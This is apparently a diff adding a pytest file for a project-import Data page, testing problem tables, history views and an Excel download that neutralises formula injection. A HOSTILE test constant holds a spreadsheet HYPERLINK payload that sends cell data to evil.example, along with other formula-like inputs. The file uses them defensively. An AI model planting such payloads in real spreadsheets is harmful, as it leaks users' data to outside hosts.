@@ -1,0 +1,579 @@
+"""What the Data page shows and lets a PM download about an import (steerco.importdata).
+
+The problem list must read the way the file does (sheet, Excel row, header) and its .xlsx
+download must open in Excel without running anything a hostile file slipped into a cell.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import datetime
+
+import numpy as np
+import openpyxl
+import pandas as pd
+import pytest
+
+from data_access.ingest.pipeline import SheetResult, prepare
+from data_access.ingest.problems import ERROR, WARNING, Problem
+from data_access.ingest.reader import read_file
+from data_access.versioning import ChangeSet, DatasetChanges
+from steerco import i18n, importdata
+from steerco.importdata import (
+    PROBLEM_COLUMNS,
+    changes_summary,
+    field_changes_table,
+    history_table,
+    import_summary,
+    problems_frame,
+    problems_workbook,
+    safe_cell,
+    sheets_frame,
+)
+
+HOSTILE = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click me")'
+
+
+@pytest.fixture(autouse=True)
+def english():
+    before = i18n.language()
+    i18n.set_language("en")
+    yield
+    i18n.set_language(before)
+
+
+def phase_error(row: int = 6, value: str = "Doing") -> Problem:
+    return Problem(
+        ERROR,
+        "is not one of the allowed values as projects.phase",
+        file="plan.xlsx",
+        sheet="Projects",
+        row=row,
+        column="Phase",
+        value=value,
+        expected="one of Initiation, Planning, Execution, Closing, Closed, On hold",
+    )
+
+
+SHEET_WARNING = Problem(
+    WARNING,
+    "was ignored: its headers match no Steerco dataset",
+    file="plan.xlsx",
+    sheet="Notes",
+)
+
+
+def open_workbook(data: bytes) -> openpyxl.Workbook:
+    return openpyxl.load_workbook(io.BytesIO(data))
+
+
+def xlsx(rows: list[list[object]], title: str = "Projects") -> bytes:
+    workbook = openpyxl.Workbook()
+    sheet = workbook.active
+    sheet.title = title
+    for row in rows:
+        sheet.append(row)
+    out = io.BytesIO()
+    workbook.save(out)
+    return out.getvalue()
+
+
+# --------------------------------------------------------------------------- safe_cell
+
+
+@pytest.mark.parametrize(
+    ("value", "safe"),
+    [
+        (HOSTILE, "'" + HOSTILE),
+        ("+1", "'+1"),
+        ("-2", "'-2"),
+        ("@x", "'@x"),
+        ("\tcmd", "'\tcmd"),
+        ("\r=1", "'\r=1"),
+        ("Doing", "Doing"),
+        ("a=b", "a=b"),  # only the first character matters
+        ("", ""),
+        (-2, -2),  # numbers are numbers, not text that looks like a formula
+        (None, None),
+    ],
+)
+def test_safe_cell_quotes_only_text_that_starts_like_a_formula(value, safe):
+    assert safe_cell(value) == safe
+
+
+# --------------------------------------------------------------------------- problems_frame
+
+
+def test_problems_frame_has_the_columns_a_pm_reads_in_this_order():
+    frame = problems_frame([phase_error(), SHEET_WARNING])
+    assert list(frame.columns) == list(PROBLEM_COLUMNS)
+    assert list(PROBLEM_COLUMNS) == [
+        "Severity",
+        "Sheet",
+        "Row",
+        "Column",
+        "Problem",
+        "Found",
+        "Expected",
+        "File",
+    ]
+    assert frame.astype(object).where(frame.notna(), None).to_dict("records") == [
+        {
+            "Severity": "Error",
+            "Sheet": "Projects",
+            "Row": 6,
+            "Column": "Phase",
+            "Problem": "is not one of the allowed values as projects.phase",
+            "Found": "Doing",
+            "Expected": "one of Initiation, Planning, Execution, Closing, Closed, On hold",
+            "File": "plan.xlsx",
+        },
+        {
+            "Severity": "Warning",
+            "Sheet": "Notes",
+            "Row": None,
+            "Column": "",
+            "Problem": "was ignored: its headers match no Steerco dataset",
+            "Found": "",
+            "Expected": "",
+            "File": "plan.xlsx",
+        },
+    ]
+
+
+def test_problems_frame_rows_are_whole_numbers_even_with_gaps():
+    frame = problems_frame([phase_error(row=12), SHEET_WARNING])
+    assert str(frame["Row"].dtype) == "Int64"  # "12", never "12.0"
+    assert frame["Row"].iloc[0] == 12
+    assert pd.isna(frame["Row"].iloc[1])
+
+
+def test_problems_frame_without_problems_still_has_its_columns():
+    frame = problems_frame([])
+    assert list(frame.columns) == list(PROBLEM_COLUMNS)
+    assert len(frame) == 0
+
+
+def test_problems_frame_is_translated_with_the_interface():
+    i18n.CATALOGUES["fr"].setdefault("Row", "Ligne")
+    try:
+        i18n.set_language("fr")
+        frame = problems_frame([phase_error()])
+        assert "Ligne" in frame.columns
+        assert frame["Ligne"].iloc[0] == 6
+    finally:
+        if i18n.CATALOGUES["fr"].get("Row") == "Ligne":
+            del i18n.CATALOGUES["fr"]["Row"]
+
+
+# --------------------------------------------------------------------------- problems_workbook
+
+
+def test_problems_workbook_opens_with_one_row_per_problem():
+    book = open_workbook(
+        problems_workbook([phase_error(6), phase_error(9), SHEET_WARNING], "plan.xlsx")
+    )
+    assert book.sheetnames == ["Problems"]
+    sheet = book["Problems"]
+    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
+    assert rows[0][0] == "Problems found in plan.xlsx"
+    assert rows[1] == list(PROBLEM_COLUMNS)
+    assert rows[2:] == [
+        [
+            "Error",
+            "Projects",
+            6,
+            "Phase",
+            "is not one of the allowed values as projects.phase",
+            "Doing",
+            "one of Initiation, Planning, Execution, Closing, Closed, On hold",
+            "plan.xlsx",
+        ],
+        [
+            "Error",
+            "Projects",
+            9,
+            "Phase",
+            "is not one of the allowed values as projects.phase",
+            "Doing",
+            "one of Initiation, Planning, Execution, Closing, Closed, On hold",
+            "plan.xlsx",
+        ],
+        [
+            "Warning",
+            "Notes",
+            None,
+            None,  # an empty text is an empty cell
+            "was ignored: its headers match no Steerco dataset",
+            None,
+            None,
+            "plan.xlsx",
+        ],
+    ]
+    assert sheet.cell(row=3, column=3).data_type == "n"  # the row number is a number
+
+
+def test_problems_workbook_is_ready_to_filter_and_colours_errors_and_warnings():
+    sheet = open_workbook(problems_workbook([phase_error(), SHEET_WARNING], "plan.xlsx"))[
+        "Problems"
+    ]
+    assert sheet.freeze_panes == "A3"
+    assert sheet.auto_filter.ref == "A2:H4"
+    assert sheet["A3"].fill.fgColor.rgb.endswith("F4CCCC")
+    assert sheet["A4"].fill.fgColor.rgb.endswith("FFF2CC")
+    assert sheet["A1"].font.bold and sheet["E2"].font.bold
+
+
+def test_problems_workbook_without_a_file_name_or_problems():
+    sheet = open_workbook(problems_workbook([]))["Problems"]
+    assert sheet["A1"].value == "Problems found in the file"
+    assert [c.value for c in sheet[2]] == list(PROBLEM_COLUMNS)
+    assert sheet.max_row == 2
+    assert sheet.auto_filter.ref == "A2:H2"
+
+
+@pytest.mark.parametrize("hostile", [HOSTILE, "+1", "-2", "@x", "=1+1"])
+def test_a_hostile_value_is_stored_as_text_never_as_a_formula(hostile):
+    problem = phase_error(value=hostile)
+    sheet = open_workbook(problems_workbook([problem], "plan.xlsx"))["Problems"]
+    cell = sheet["F3"]  # "Found"
+    assert cell.data_type == "s"
+    assert cell.value == "'" + hostile
+    # Nothing anywhere in the workbook is a formula.
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
+
+
+def test_a_hostile_file_name_sheet_and_header_are_also_neutralised():
+    problem = Problem(
+        ERROR, "cannot be read", file="=cmd.xlsx", sheet="+Sheet", row=2, column="@SUM(A1)"
+    )
+    sheet = open_workbook(problems_workbook([problem], "=cmd.xlsx"))["Problems"]
+    assert [sheet["B3"].value, sheet["D3"].value, sheet["H3"].value] == [
+        "'+Sheet",
+        "'@SUM(A1)",
+        "'=cmd.xlsx",
+    ]
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
+
+
+def test_a_hostile_cell_of_an_uploaded_csv_ends_up_quoted_in_the_download():
+    text = io.StringIO()
+    writer = csv.writer(text, lineterminator="\n")
+    writer.writerows(
+        [["project_id", "name", "phase", "Budget"], ["P1", "Alpha", "Closed", HOSTILE]]
+    )
+    prepared = prepare(read_file(text.getvalue().encode(), "projects.csv"))
+    assert [p.value for p in prepared.problems] == [HOSTILE]
+    sheet = open_workbook(problems_workbook(prepared.problems, "projects.csv"))["Problems"]
+    assert [c.value for c in sheet[3]][:6] == [
+        "Error",
+        "projects",
+        2,
+        "Budget",
+        "cannot be read as projects.approved_budget",
+        "'" + HOSTILE,
+    ]
+    assert sheet["F3"].data_type == "s"
+
+
+# --------------------------------------------------------------------------- sheets_frame
+
+
+def test_sheets_frame_says_what_became_of_each_sheet():
+    data = xlsx(
+        [
+            ["Portfolio"],
+            ["project_id", "name", "phase"],
+            ["P1", "Alpha", "Closed"],
+            [],
+            ["P2", "Beta", "Closed"],
+            [],
+            ["Total", None, None],
+        ]
+    )
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    notes = book.create_sheet("Notes")
+    notes.append(["Topic", "Remark"])
+    notes.append(["Budget", "ask the CFO"])
+    out = io.BytesIO()
+    book.save(out)
+    prepared = prepare(read_file(out.getvalue(), "plan.xlsx"))
+    frame = sheets_frame(prepared.sheets)
+    assert list(frame.columns) == ["Sheet", "Dataset", "Header row", "Rows", "Mapping", "Notes"]
+    assert frame.astype(object).where(frame.notna(), None).to_dict("records") == [
+        {
+            "Sheet": "Projects",
+            "Dataset": "Projects",
+            "Header row": 2,
+            "Rows": 2,
+            "Mapping": "automatic",
+            "Notes": "2 blank rows skipped; 1 total rows skipped",
+        },
+        {
+            "Sheet": "Notes",
+            "Dataset": "not recognised",
+            "Header row": None,
+            "Rows": 0,
+            "Mapping": "automatic",
+            "Notes": "",
+        },
+    ]
+
+
+def test_sheets_frame_names_the_mapping_and_the_event_log_reduction():
+    result = SheetResult(
+        sheet="incident_event_log",
+        dataset="tickets",
+        header_row=1,
+        mapping="servicenow-incidents",
+        rows=24_918,
+        reduced_from=141_712,
+    )
+    assert sheets_frame([result]).to_dict("records") == [
+        {
+            "Sheet": "incident_event_log",
+            "Dataset": "Tickets",
+            "Header row": 1,
+            "Rows": 24_918,
+            "Mapping": "servicenow-incidents",
+            "Notes": "141,712 events → latest state per item",
+        }
+    ]
+
+
+# --------------------------------------------------------------------------- changes
+
+
+def frame_of(n: int, **columns) -> pd.DataFrame:
+    return (
+        pd.DataFrame({k: v[:n] for k, v in columns.items()})
+        if columns
+        else pd.DataFrame(index=range(n))
+    )
+
+
+def test_changes_summary_counts_and_scope_per_dataset():
+    changes = ChangeSet(
+        {
+            "projects": DatasetChanges(
+                dataset="projects",
+                added=frame_of(2),
+                changed=frame_of(1),
+                previous=frame_of(1),
+                removed=frame_of(0),
+                unchanged=7,
+            ),
+            "raid": DatasetChanges(
+                dataset="raid",
+                added=frame_of(0),
+                changed=frame_of(3),
+                previous=frame_of(3),
+                removed=frame_of(4),
+                unchanged=0,
+                scope_column="project_id",
+            ),
+        }
+    )
+    assert changes_summary(changes).to_dict("records") == [
+        {
+            "Dataset": "Projects",
+            "Added": 2,
+            "Changed": 1,
+            "Removed": 0,
+            "Unchanged": 7,
+            "Scope": "add and update only",
+        },
+        {
+            "Dataset": "RAID log",
+            "Added": 0,
+            "Changed": 3,
+            "Removed": 4,
+            "Unchanged": 0,
+            "Scope": "rows of the same project_id missing from the file are removed",
+        },
+    ]
+
+
+def test_field_changes_table_shows_key_column_old_and_new_as_text():
+    fields = pd.DataFrame(
+        {
+            "project_id": ["P1", "P1", "P2"],
+            "report_date": pd.to_datetime(["2026-03-01", "2026-03-01", "2026-03-08"]),
+            "column": ["overall_rag", "percent_complete", "summary"],
+            "old": ["G", 40.0, None],
+            "new": ["R", 42.5, "Vendor late"],
+        }
+    )
+    change = DatasetChanges(
+        dataset="status_reports",
+        added=frame_of(0),
+        changed=frame_of(2),
+        previous=frame_of(2),
+        removed=frame_of(0),
+        field_changes=fields,
+    )
+    assert field_changes_table(change).to_dict("records") == [
+        {"Key": "P1 / 01 Mar 2026", "Column": "overall_rag", "Old": "G", "New": "R"},
+        {"Key": "P1 / 01 Mar 2026", "Column": "percent_complete", "Old": "40", "New": "42.5"},
+        {"Key": "P2 / 08 Mar 2026", "Column": "summary", "Old": "–", "New": "Vendor late"},
+    ]
+    assert len(field_changes_table(change, limit=1)) == 1
+
+
+def test_field_changes_table_without_changes_has_its_columns():
+    change = DatasetChanges(
+        dataset="projects",
+        added=frame_of(1),
+        changed=frame_of(0),
+        previous=frame_of(0),
+        removed=frame_of(0),
+    )
+    table = field_changes_table(change)
+    assert list(table.columns) == ["Key", "Column", "Old", "New"] and table.empty
+
+
+# --------------------------------------------------------------------------- history
+
+
+def test_history_table_shows_the_import_log_as_read():
+    log = pd.DataFrame(
+        {
+            "import_id": [12, 11, 3],
+            "started_at": pd.to_datetime(
+                ["2026-03-02 09:05:07", "2026-03-01 17:30:00", "2026-01-10 08:00:00"]
+            ),
+            "user_name": ["marie", None, None],
+            "source": ["plan.xlsx", "plan.xlsx", "sample"],
+            "datasets": ["projects,raid", None, "projects,status_reports"],
+            "outcome": ["committed", "refused", "seeded"],
+            "rows_added": [2, 0, 40],
+            "rows_changed": [1, 0, 0],
+            "rows_removed": [0, 0, 0],
+            "message": [None, "3 errors", None],
+            "sha256": ["ab" * 32, "cd" * 32, None],
+        }
+    )
+    table = history_table(log)
+    assert sorted(table.columns) == sorted(
+        [
+            "Import",
+            "When",
+            "Who",
+            "Source",
+            "Datasets",
+            "Outcome",
+            "Added",
+            "Changed",
+            "Removed",
+            "Message",
+            "SHA-256",
+        ]
+    )
+    assert table.to_dict("records") == [
+        {
+            "Import": "#12",
+            "When": "2026-03-02 09:05:07",
+            "Who": "marie",
+            "Source": "plan.xlsx",
+            "Datasets": "projects, raid",
+            "Outcome": "Committed",
+            "Added": 2,
+            "Changed": 1,
+            "Removed": 0,
+            "Message": "",
+            "SHA-256": "abababababab",
+        },
+        {
+            "Import": "#11",
+            "When": "2026-03-01 17:30:00",
+            "Who": "",
+            "Source": "plan.xlsx",
+            "Datasets": "",
+            "Outcome": "Refused",
+            "Added": 0,
+            "Changed": 0,
+            "Removed": 0,
+            "Message": "3 errors",
+            "SHA-256": "cdcdcdcdcdcd",
+        },
+        {
+            "Import": "#3",
+            "When": "2026-01-10 08:00:00",
+            "Who": "",
+            "Source": "sample",
+            "Datasets": "projects, status_reports",
+            "Outcome": "Sample loaded",
+            "Added": 40,
+            "Changed": 0,
+            "Removed": 0,
+            "Message": "",
+            "SHA-256": "",
+        },
+    ]
+
+
+@pytest.mark.parametrize(
+    ("outcome", "label"),
+    [
+        ("unchanged", "No change"),
+        ("failed", "Failed"),
+        ("rolled back", "Rolled back"),
+        ("rollback", "Rollback"),
+        ("something new", "something new"),  # an unknown outcome is shown as recorded
+    ],
+)
+def test_history_table_labels_every_outcome(outcome, label):
+    log = pd.DataFrame(
+        {
+            "import_id": [1],
+            "started_at": [datetime(2026, 3, 1, 9, 0)],
+            "user_name": [None],
+            "source": ["x.csv"],
+            "datasets": ["tickets"],
+            "outcome": [outcome],
+            "rows_added": [0],
+            "rows_changed": [0],
+            "rows_removed": [0],
+            "message": [None],
+            "sha256": [None],
+        }
+    )
+    assert history_table(log)["Outcome"].tolist() == [label]
+
+
+def test_import_summary_and_roll_back_rules():
+    record = {
+        "outcome": "committed",
+        "summary": '{"projects": {"added": 2, "changed": 1, "removed": 0}, "old_set": {}}',
+    }
+    assert import_summary(record).to_dict("records") == [
+        {"Dataset": "Projects", "Added": 2, "Changed": 1, "Removed": 0},
+        {"Dataset": "old_set", "Added": 0, "Changed": 0, "Removed": 0},
+    ]
+    assert import_summary({"summary": None}).empty
+    assert importdata.can_roll_back({"outcome": "committed"})
+    assert importdata.can_roll_back({"outcome": "rollback"})
+    assert not importdata.can_roll_back({"outcome": "rolled back"})
+    assert not importdata.can_roll_back({"outcome": "refused"})
+
+
+def test_rows_table_shows_every_dataset_column_as_text():
+    frame = pd.DataFrame(
+        {
+            "project_id": ["P1"],
+            "name": ["Alpha"],
+            "start_date": [pd.Timestamp("2026-01-05")],
+            "approved_budget": [1234.5],
+            "business_value": pd.array([np.nan], dtype="Int64"),
+        }
+    )
+    table = importdata.rows_table(frame, "projects")
+    assert list(table.columns)[:3] == ["project_id", "name", "programme"]
+    row = table.iloc[0]
+    assert (row["project_id"], row["start_date"], row["approved_budget"]) == (
+        "P1",
+        "05 Jan 2026",
+        "1,234.5",
+    )
+    assert row["programme"] == "–" and row["business_value"] == "–"
